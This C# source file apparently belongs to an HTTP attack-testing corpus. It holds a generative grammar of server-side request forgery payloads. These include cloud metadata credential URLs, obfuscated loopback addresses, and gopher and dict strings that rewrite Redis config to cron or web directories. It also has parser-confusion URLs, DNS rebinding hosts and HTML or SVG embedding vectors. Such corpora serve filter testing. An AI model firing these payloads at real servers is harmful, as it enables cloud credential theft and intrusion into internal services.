namespace Weir.Http.Corpus.Attacks;

/// <summary>Requests that the server is made to send: inner addresses in all their spellings, cloud metadata, schemes that speak other protocols.</summary>
internal static class Ssrf
{
    public const string Text = """"
        §attack
        6× «cloudmeta»
        6× «inner»
        4× «scheme»
        3× «confused»
        2× «parameter»
        «dnsname»
        2× «bareaddress»
        «nested»
        «encoded»

        ¶ ---- metadata services of clouds and clusters ----
        §cloudmeta
        8× «httppart»«linklocal»«metaport?8»«metapath»
        2× «linklocal»«metapath»
        2× //«linklocal»«metapath»
        «httppart»«metadns»«metapath»
        2× «httppart»metadata«.google.internal¦.google.internal¦¦.goog»/«computeMetadata/«v1¦v1beta1»/«gcppath»¦computeMetadata/v1/?recursive=true«¦&alt=«json¦text»»»
        «httppart»«100.100.100.200¦alibaba.zaddy.«tld»¦1684300232»/latest/meta-data/«¦instance-id¦image-id¦ram/security-credentials/«word?»¦region-id¦private-ipv4¦hostname»
        «httppart»«192.0.0.192¦192.0.0.2»/latest/«meta-data/¦user-data/¦attributes/»
        «httppart»«rancher-metadata¦127.0.0.1:2379¦kubernetes.default.svc¦kubernetes.default¦10.96.0.1¦127.0.0.1:10255¦«privateip»:10250»/«latest¦version¦api/v1/namespaces/«default¦kube-system»/«secrets¦pods¦configmaps»¦v2/keys/?recursive=true¦pods¦metrics¦run/default/«rand»/«rand»¦healthz¦openapi/v2¦apis»
        «httppart»«127.0.0.1:2375¦localhost:2375¦unix:/var/run/docker.sock:¦docker.for.mac.localhost:2375¦«privateip»:2376»/«containers/json¦images/json¦info¦version¦v1.24/containers/json¦containers/«hexdigit*12»/exec»
        «httppart»169.254.170.2«/v2/credentials/¦$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI¦/v2/metadata¦/v2/credentials/«hexdigit*8»-«hexdigit*4»»
        §httppart
        8× http://
        2× https://
        «HTTP://¦hTtP://¦http:\\¦http:/¦http:///¦http:¦http:\/\/»
        §linklocal
        14× 169.254.169.254
        «dottedmeta»
        [::ffff:«169.254.169.254¦a9fe:a9fe¦A9FE:A9FE»]
        [fd00:ec2::254]
        «169.254.169.254.«nipdomain»¦169-254-169-254.«nipdomain»¦a9fea9fe.nip.io»
        169.254.169.254«.¦%2e¦%00¦#¦%23.«evilhost»»
        «instance-data¦instance-data.ec2.internal¦metadata¦metadata.nicob.net»
        «word»@169.254.169.254
        ①⑥⑨.②⑤④.①⑥⑨.②⑤④
        169。254。169。254
        §dottedmeta
        2852039166
        0xA9FEA9FE
        0xa9fea9fe
        0251.0376.0251.0376
        0xA9.0xFE.0xA9.0xFE
        0xa9.0xfe.43518
        169.16689662
        169.254.43518
        025177524776
        0251.254.169.254
        00000251.00000376.000251.0000376
        425.510.425.510
        7147006462
        0xA9.254.0251.0xFE
        §metaport
        :«80¦443¦8080¦254»
        §metadns
        «169-254-169-254¦metadata¦aws¦instance-data».««nipdomain»¦«oasthost»¦internal¦local»
        §metapath
        6× /latest/meta-data/«awspath»
        3× /latest/meta-data/iam/security-credentials/«¦«role»»
        3× /latest/«user-data¦user-data/¦dynamic/instance-identity/document¦api/token¦meta-data¦dynamic/instance-identity/«pkcs7¦signature¦rsa2048»¦»
        2× /computeMetadata/v1/«gcppath»
        2× /metadata/«instance?api-version=20«#17-23»-«0«#1-9»¦1«#0-2»»-«0«#1-9»¦1«#1-9»»¦identity/oauth2/token?api-version=2018-02-01&resource=https://«management.azure.com¦vault.azure.net¦storage.azure.com»/¦v1.json¦v1/«¦id¦region¦user-data¦hostname¦interfaces/public/0/ipv4/address»¦instance/network/interface/0/ipv4/ipAddress/0/publicIpAddress?api-version=2017-04-02&format=text»
        «/openstack«¦/latest/meta_data.json¦/2012-08-10/user_data¦/latest/user_data¦/latest/network_data.json»¦/2009-04-04/meta-data/¦/hetzner/v1/metadata«¦/private-networks¦/hostname»¦/opc/v«1¦2»/instance/«¦metadata/¦region»¦/v1/instance¦/1.0/meta-data/«¦ami-id»¦/2016-09-02/user-data/»
        «/¦»
        §awspath
        4×
        2× «ami-id¦hostname¦instance-id¦local-ipv4¦public-ipv4¦public-hostname¦local-hostname¦placement/availability-zone¦security-groups¦mac¦reservation-id»
        iam/«info¦security-credentials¦security-credentials/¦security-credentials/«role»»
        identity-credentials/ec2/security-credentials/ec2-instance
        public-keys/«¦0/openssh-key»
        network/interfaces/macs/«¦0«hexdigit»:«hexdigit*2»:«hexdigit*2»/vpc-id»
        §role
        «admin¦ec2-role¦s3access¦ISRM-WAF-Role¦dummy¦«word»-role¦ecsInstanceRole¦«word»Role¦aws-elasticbeanstalk-ec2-role¦«rand»»
        §gcppath
        3× instance/service-accounts/«default¦default¦«word»@«rand».iam.gserviceaccount.com»/«token¦email¦scopes¦aliases¦identity?audience=«rand»¦»
        project/«project-id¦attributes/ssh-keys¦attributes/?recursive=true¦numeric-project-id¦»
        instance/«hostname¦id¦zone¦disks/?recursive=true¦attributes/kube-env¦attributes/startup-script¦machine-type¦network-interfaces/0/ip¦»

        ¶ ---- inner hosts, ports and paths ----
        §inner
        5× «httppart»«loop»«sensitive»
        3× «httppart»«loopodd»«innertail»
        2× «httppart»«privateip»«sensitive»
        2× «httppart»«innername»«sensitive»
        «httppart»«loop»:«innerport»
        //«loopodd»«innertail»
        «loopodd»«sensitive»
        «httppart»«privateip»:«22¦23¦25¦445¦3389¦6379¦11211¦5432¦3306¦27017»/
        §loop
        6× 127.0.0.1
        6× localhost
        2× 0.0.0.0
        2× [::1]
        «loopodd»
        §loopodd
        4× 127.«#0-255».«#0-255».«#1-254»
        2× 127.1
        2× 127.0.1
        2× 0
        2× 2130706433
        2× 0x7f000001
        0x7F.0x0.0x0.0x1
        0x7f.1
        0x7f.0.0.1
        017700000001
        0177.0.0.1
        0177.0000.0000.0001
        00000177.0.0.«01¦1»
        0177.1
        3232235«#521-999»
        28867«#10001-99999»
        0xc0a8«hexdigit*4»
        0x0a«hexdigit*6»
        0300.0250.0«#0-7».0«#1-7»
        012.0.0.«#1-9»
        [«::1¦0:0:0:0:0:0:0:1¦::¦0000::1¦::ffff:127.0.0.1¦::ffff:7f00:1¦0:0:0:0:0:ffff:127.0.0.1¦::ffff:c0a8:«hexdigit*3»¦::127.0.0.1¦::1%25lo¦fe80::1¦fe80::«hexdigit*4»%25eth0¦64:ff9b::7f00:1¦::ffff:10.0.0.«#1-99»»]
        «127.0.0.1¦127-0-0-1¦7f000001¦«privateip»¦10-0-0-«#1-99»».«nipdomain»
        «localtest.me¦lvh.me¦vcap.me¦lacolhost.com¦yoogle.com¦localhost.localdomain¦spoofed.«oasthost»¦localh.st¦readme.localtest.me¦customer1.app.localhost.my.company.127.0.0.1.nip.io»
        «①②⑦.⓪.⓪.①¦１２７.０.０.１¦127。0。0。1¦127｡0｡0｡1¦ⓛⓞⓒⓐⓛⓗⓞⓢⓣ¦ｌｏｃａｌｈｏｓｔ»
        «LOCALHOST¦LocalHost¦lOcAlHoSt¦localhost.¦127.0.0.1.¦0.0.0.0.¦loopback¦ip6-localhost»
        «127.0.0.1%00¦127.0.0.1%20¦127%2e0%2e0%2e1¦%6c%6f%63alhost¦localhost%00.«evilhost»¦127.0.0.1%0d%0a»
        127.0.0.1«\@¦&@¦#@¦?@»«evilhost»
        256.256.256.256
        383.256.256.257
        §nipdomain
        «nip.io¦xip.io¦sslip.io¦nip.«tld»¦1u.ms»
        §innername
        «intranet¦internal¦admin¦jenkins¦gitlab¦vault¦consul¦redis¦db¦elastic¦kibana¦backend¦api-internal¦dev¦staging¦printer¦router¦wiki»«¦.local¦.internal¦.corp¦.lan¦.intra¦.svc.cluster.local»
        «host.docker.internal¦gateway.docker.internal¦metadata¦kubernetes.default.svc.cluster.local»
        §innerport
        4× «22¦21¦25¦3306¦6379¦5432¦11211¦9200¦27017¦2375¦8500¦5984¦9000¦2379¦10250¦4369¦5601¦7001¦8161¦9090¦15672¦50070»
        2× «80¦443¦8080¦8443¦8000¦8888¦81¦3000¦5000»
        «#1-65535»
        §innertail
        2× :«innerport»«¦/»
        2× /
        2× /«sensitivepath»
        «¦»
        §sensitive
        5× «¦:«innerport»»/«sensitivepath»
        :«innerport»«/¦»
        §sensitivepath
        3× «admin¦administrator¦console¦manager/html¦server-status¦server-info¦nginx_status¦phpmyadmin/¦private¦secret¦internal¦debug¦config¦status¦api/internal/users»«¦/»
        2× admin/«delete?username=«word»¦users¦delete/«#1-99»¦config¦login¦?action=«word»¦panel»
        actuator/«env¦heapdump¦health¦mappings¦gateway/routes»
        «_cat/indices¦_cluster/health¦_search?pretty¦_nodes/stats»
        «solr/admin/cores¦solr/select?q=«rand»&shards=«evilurl»¦jmx-console/¦jolokia/list¦invoker/JMXInvokerServlet¦script¦script?script=println«rand»»
        «v1/agent/self¦v1/kv/?recurse¦v1/sys/health¦v1/secret/data/«word»»
        «.git/config¦.env¦.aws/credentials¦latest/meta-data/¦flag¦flag.txt¦etc/passwd¦shutdown¦api/v1/secrets»
        «cgi-bin/«rand»?cmd=id¦?x=/bin/bash -i¦wls-wsat/CoordinatorPortType¦_utils/¦_all_dbs¦hystrix.stream¦login.php»

        ¶ ---- other schemes ----
        §scheme
        3× file://«¦localhost¦127.0.0.1¦/¦//»«unixfile»
        file:«/¦//¦///»«c:/windows/win.ini¦C:/boot.ini¦«unixfile»»
        «FILE¦fIlE¦file»:///«¦.»«unixfile»
        4× gopher://«innerhost»:«gophertarget»
        3× dict://«innerhost»:«6379¦11211¦22¦3306¦«port»»/«info¦stats¦stat¦d:word¦d:shell:«rand»¦config:set:dir:/«tmp¦var/spool/cron»¦set:x:«rand»¦quit¦show:db¦slaveof:«ip»:«port»¦«rand»»
        «ldap¦ldaps»://«innerhost»:«389¦636¦11211¦1389»/«%0astats%0aquit¦«word»¦cn=«word»¦o=«rand»»
        2× «sftp¦tftp¦ftp¦ftps»://«innerhost»:«21¦69¦22¦11211¦11111¦«port»»/««word»¦TESTUDPPACKET¦«rand»¦»
        netdoc://«unixfile»
        netdoc:«unixfile»
        jar:«httppart»««innerhost»¦«evilhost»»«¦:«port»»/«rand».«jar¦zip»!/«rand»«¦.txt»
        jar:file://«unixfile»!/«rand»
        «smb¦cifs¦nfs¦rsync¦svn¦ssh¦telnet¦imap¦imaps¦pop3¦smtp¦rtsp¦redis¦mysql¦mongodb¦memcached¦amqp¦ws¦php¦phar¦expect¦data¦view-source¦local_file¦mailto¦rmi¦iiop¦unix»://«innerhost»«¦:«innerport»»/«¦«rand»¦«word»»
        «local_file¦local-file»:«¦//»«unixfile»
        url:«file://«unixfile»¦«httppart»«loop»/«sensitivepath»¦http://169.254.169.254/latest/meta-data/»
        \\««innerhost»¦«evilhost»»\«share¦c$¦admin$¦«rand»»«¦\«rand».«txt¦dll»»
        unix:«¦//»/var/run/«docker.sock¦php-fpm.sock¦mysqld/mysqld.sock¦redis/redis.sock»«¦|http://localhost/«rand»¦:/containers/json»
        §innerhost
        4× 127.0.0.1
        4× localhost
        0.0.0.0
        [::]
        «privateip»
        «loopodd»
        169.254.169.254
        §gophertarget
        3× 6379/_«rediscmd»
        2× 25/_«mailcmd»
        3306/_%a3%00%00%01%85%a6%ff%01%00%00%00%01%21«¦%00»«%«hexdigit*2»¦%«hexdigit*2»%«hexdigit*2»»
        11211/_%0d%0a«set¦stats¦delete¦get»%20«rand»%20«0%20«#1-900»%20«#1-99»%0d%0a¦»«rand»%0d%0a
        9000/_%01%01%00%01%00%08%00%00%00%01%00%00%00%00%00%00%01%04%00%01
        «80¦8080»/_«GET¦POST¦PUT»%20/«sensitivepath→url»%20HTTP/1.«0¦1»%0«A¦d%0a»Host:%20«innerhost»%0«A¦d%0a»
        «port»/_«rand»
        5432/_%00%00%00%«hexdigit*2»%00%03%00%00user%00postgres
        27017/_%«hexdigit*2»%00%00%00«#1-9»%00%00%00
        §rediscmd
        *«#1-4»%0d%0a$«#1-9»%0d%0a«flushall¦SET¦config¦set¦eval¦info¦slaveof»%0d%0a«¦$«#1-9»%0d%0a«rand»%0d%0a$«#1-99»%0d%0a«rand»%0d%0a»
        «flushall¦info¦quit¦slaveof%20«ip»%20«port»¦config%20set%20dir%20/«var/www/html¦tmp¦var/spool/cron»¦config%20set%20dbfilename%20«shell.php¦root¦authorized_keys»¦set%20«rand»%20"«rand»"¦keys%20*¦save»%0«a¦D%0A»«¦quit»
        §mailcmd
        «HELO¦EHLO»%20«localhost¦«evilhost»»%0«a¦A¦d%0a»MAIL%20FROM%3A%3C«word»@«evilhost»%3E%0«a¦d%0a»RCPT%20TO%3A%3C«word»@«evilhost»%3E%0«a¦d%0a»«DATA%0ASubject%3A%20«rand»%0a.%0aQUIT¦»

        ¶ ---- URLs that parsers read differently ----
        §confused
        «httppart»«goodhost»«@¦:80@¦&@¦%40¦:«rand»@»«aim»
        «httppart»«aim»«#¦?¦%23¦/¦;¦%3f¦#@¦?@¦\@¦%20@¦\\@¦&@»«goodhost»«¦/»
        «httppart»«aim»«#.¦?.¦%00.¦%2f.¦%23.¦%5c.»«goodhost»
        «httppart»«word»:«word»@«aim»:«innerport»«@«goodhost»«¦/»¦/»
        «httppart»«goodhost»:«80¦11211¦22»«#¦?¦»@«aim»«¦:«innerport»»/
        «httppart»«goodhost»#«@«aim»¦«rand»@«aim»/»
        «httppart»«aim»:«80¦22»:«80¦80\¦443»/
        «httppart»1.1.1.1 &@«aim»# @3.3.3.3/
        «httppart»«aim»%0d%0a«Host:%20«evilhost»¦X-«rand»:%20«rand»¦%0d%0aGET%20/«rand»%20HTTP/1.1¦SLAVEOF%20«ip»%206379%0d%0a»
        «httppart»«aim»\t
        http:«aim»«¦:«innerport»»/«sensitivepath»
        «0¦javascript¦x»://«aim»:«innerport»«¦;«goodhost»:80/»
        «httppart»«goodhost».«aim»«¦.nip.io»/
        «httppart»«evilhost»/«redirect¦r¦302¦go».php?«u¦url¦to»=«httppart»«aim»/«¦«sensitivepath»»
        «httppart»«goodhost»/«redirect¦login¦out»?«url¦next¦u»=«httppart»«aim»/«sensitivepath»
        «httppart»«aim»/«sensitivepath»?«goodhost»
        §aim
        4× 169.254.169.254
        4× 127.0.0.1
        3× localhost
        2× «loopodd»
        «privateip»
        §goodhost
        «google.com¦www.google.com¦example.com¦expected.com¦trusted.example¦allowed-host.com¦www.«letter*4-8».com¦whitelisted.com¦github.com¦stock.weliketoshop.net¦expected-host»

        ¶ Addresses alone: what a filter compares is not what a resolver makes of it.
        §bareaddress
        3× «httppart»«overflow4»«¦/¦/«sensitivepath»»
        2× «httppart»0x«hexdigit*8»«¦/¦/«sensitivepath»»
        2× «httppart»0x«hexdigit*8»«a9fea9fe¦A9FEA9FE¦7f000001¦7F000001»
        2× «httppart»«#4294967-8999999»«digit*3-3»«¦/»
        «httppart»0«#10-377».0«#10-377».0«#10-377».0«#10-377»«¦/»
        «httppart»«#1-99».«#256-65535»«¦.«#1-254»»/
        «httppart»ip6-«loopback¦localhost¦allnodes»«¦:«innerport»»«¦/»
        «httppart»${«letter*3-8→upper»_«letter*3-8→upper»}/«sensitivepath»
        «httppart»«word→circled»«¦.«tld→circled»»«¦/»
        «httppart»127.0.0.1/%«#61-79»«word»
        «scheme5»://«innerhost»:«innerport»/«rand»
        «word».php?«jsonkey»=«scheme5»://«evilhost»:«port»/«rand»
        «httppart»[::«privateip»]«¦:«innerport»»/
        «httppart»«innerhost»:«innerport»\@«innerhost»:«innerport»/
        §overflow4
        «#256-999».«#256-999».«#256-999».«#256-999»
        §scheme5
        «tftp¦dict¦sftp¦ldap¦gopher¦ftp¦netdoc¦imap¦jar:http»
        §dnsname
        «httppart»make-«¦«privateip»-»«1.2.3.4-rebind-«127.0.0.1¦169.254.169.254»¦«ip→hex»-7f000001»«-rr¦.rebind»«.1u.ms¦.«oasthost»»
        «httppart»«hexdigit*8».«7f000001¦a9fea9fe¦c0a80001».rbndr.us«¦/latest/meta-data/»
        «httppart»A.«ip».1time.«127.0.0.1¦169.254.169.254».«forever¦«#1-9»times».«oasthost»
        «httppart»«oasthost»/«?ssrf=«rand»¦ssrf¦«rand»/ssrf.«gif¦png»»
        «httppart»ssrf.«rand».«oasthost»
        «httppart»«word»-«127-0-0-1¦10-0-0-1¦169-254-169-254».«nipdomain»«sensitive»

        §nested
        «httppart»«loop»:«innerport»/«proxy¦fetch¦redirect¦image»?url=«httppart»«aim»/«sensitivepath»
        {"«jsonkey»":"«core»"}
        {"«jsonkey»":"«core→json»","«word»":"«rand»"}
        "«jsonkey»": "«core»"
        <«iframe¦img¦script¦embed¦object data¦link rel=stylesheet href¦video» «src¦href»="«core»">
        <svg«¦ xmlns="http://www.w3.org/2000/svg"»><image «xlink:¦»href="«core»"/></svg>
        url(«core»)
        ![«word»](«core»)
        @import url("«core»");
        <annotation file="«unixfile»" content="«unixfile»" icon="Graph"/>
        <script>«fetch("«core»")¦x=new XMLHttpRequest;x.open("GET","«core»");x.send();document.write(x.responseText)¦document.location="«core»"»</script>
        «core»«%0a¦,¦;¦|¦ »«core»
        #EXTM3U␤#EXT-X-MEDIA-SEQUENCE:0␤#EXTINF:10.0,␤concat:«core»|file://«unixfile»
        <?xml version="1.0"?><«word» «url¦href¦location»="«core»"/>
        push graphic-context␤viewbox 0 0 640 480␤fill 'url(«core»)'␤pop graphic-context
        §jsonkey
        «url¦webhook¦webhook_url¦callback¦callbackUrl¦imageUrl¦avatar¦source¦target¦endpoint¦uri¦link¦feed¦stockApi¦host¦proxy¦src¦document_url¦importUrl»
        §core
        3× «cloudmeta»
        3× «inner»
        2× «scheme»
        «confused»

        §parameter
        6× «jsonkey»=«core»
        2× «jsonkey»=«core→url»
        /«proxy¦fetch¦redirect¦load¦image¦preview¦api/fetch¦download¦webhook¦render¦oembed¦export/pdf¦plugins/servlet/gadgets/makeRequest¦uddiexplorer/SearchPublicRegistries.jsp¦_proxy¦cors»?«jsonkey»=««core»¦«core→url»»
        /«proxy¦fetch¦cdn-cgi/image»/«core»
        «jsonkey»=«core»&«word»=«num»

        §encoded
        2× «core→url»
        «core→urltwice»
        «core→urlsome»
        «core→urlall»
        «cloudmeta→b64»
        """";
}
